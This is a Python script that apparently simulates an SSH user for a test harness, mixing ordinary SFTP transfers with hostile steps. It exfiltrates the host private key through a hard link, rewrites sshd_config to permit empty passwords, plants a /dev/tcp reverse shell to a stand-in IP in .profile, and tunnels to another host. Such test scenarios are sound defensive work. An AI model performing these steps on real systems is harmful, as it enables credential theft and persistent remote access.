#!/usr/bin/python3 -IS
"""Somebody who uses the SSH daemon from another host, and who looks after it; not recorded: person.py WHAT [VALUE]

exchange: files are put, renamed and fetched, a large one among them · reload: the daemon reads its settings again between two
logins · documents: a document is left under another name first, with its time, in a new folder · several: two logins at once, one that is refused, and one who only looks
link: a key of the host by a hard link · settings: the daemon's settings are replaced · start: what a shell starts with is replaced ·
inside HOST:PORT: by the daemon on to another host
"""
import os, signal, subprocess, sys, time

sys.path.append("/opt/agent")
from client import COPY, HOST, KNOWN, LOGIN, OWN, PERSON, attend, run, ssh_keys, started

PID = "/run/sshd.pid"
HOST_KEY = "/etc/ssh/ssh_host_ed25519_key"


def sftp(*lines):
    run("sftp", *COPY, "-b", "-", PERSON, text="".join(f"{line}\n" for line in lines))


def must_hold(path, text):
    with open(path) as file:
        if text not in file.read():
            sys.exit(f"person: {path} is not what it was to be")


def stay(seconds):
    return subprocess.Popen(["ssh", *LOGIN, "-N", "-p", "2222", PERSON], stdin=subprocess.DEVNULL), seconds


def leave(session, seconds):
    time.sleep(seconds)
    session.terminate()
    session.wait()


def exchange(number):
    with open(f"{OWN}/large", "wb") as file:
        file.write(os.urandom(1024) * (40 + 200 * int(number)))
    sftp("mkdir inbox", f"put {OWN}/large inbox/upload.part", f"rename inbox/upload.part inbox/upload-{number}", f"put {OWN}/note inbox/note",
         "ls -l inbox", f"get inbox/upload-{number} {OWN}/got", f"get documents/report.txt {OWN}/report", "rm inbox/note")
    if os.path.getsize(f"{OWN}/got") != os.path.getsize(f"{OWN}/large"):
        sys.exit("person: the file came back otherwise")


def documents(number):
    folder = f"documents/of-{number}"
    sftp(f"mkdir {folder}", f"put -p {OWN}/note {folder}/note.part", f"rename {folder}/note.part {folder}/note.txt", f"chmod 600 {folder}/note.txt")


def reload(_):
    leave(*stay(0.6))
    os.kill(started(PID), signal.SIGHUP)
    time.sleep(0.8)
    sftp("ls")


def several(number):
    sessions = [stay(0.5), stay(0.2 * (1 + int(number)))]
    run("ssh", "-F", "none", *KNOWN, "-i", f"{OWN}/other", "-N", "-p", "2222", f"nobody@{HOST}", ends=(255,))
    run("ssh-keyscan", "-p", "2222", HOST)
    for session in sessions:
        leave(*session)
    run("scp", *COPY, f"{OWN}/note", f"{PERSON}:note-{number}.txt")


def link(number):
    sftp(f"ln {HOST_KEY} notes-{number}.txt", f"get notes-{number}.txt {OWN}/got")
    must_hold(f"{OWN}/got", "PRIVATE KEY")


def settings(_):
    with open("/etc/ssh/sshd_config") as before, open(f"{OWN}/settings", "w") as after:
        after.write(before.read() + "PermitEmptyPasswords yes\n")
    sftp(f"put {OWN}/settings /etc/ssh/.settings", "rename /etc/ssh/.settings /etc/ssh/sshd_config")
    must_hold("/etc/ssh/sshd_config", "PermitEmptyPasswords yes")


def start(_):
    with open(f"{OWN}/start", "w") as file:
        file.write("exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3\n")
    sftp(f"put {OWN}/start .cache-1", "rename .cache-1 .profile")
    must_hold("/home/agent/.profile", "203.0.113.9")


def inside(address):
    forward = subprocess.Popen(["ssh", *LOGIN, "-N", "-L", f"127.0.0.1:9180:{address}", "-p", "2222", PERSON])
    for _ in range(3):
        time.sleep(0.5)
        run("curl", "-s", "-m", "5", "--http0.9", "-o", f"{OWN}/got", "http://127.0.0.1:9180/", ends=(0, 7))
    leave(forward, 0.1)
    must_hold(f"{OWN}/got", "installed")


USES = {each.__name__: each for each in (exchange, reload, documents, several, link, settings, start, inside)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("person.py", ssh_keys, PID, lambda: USES[what](value))
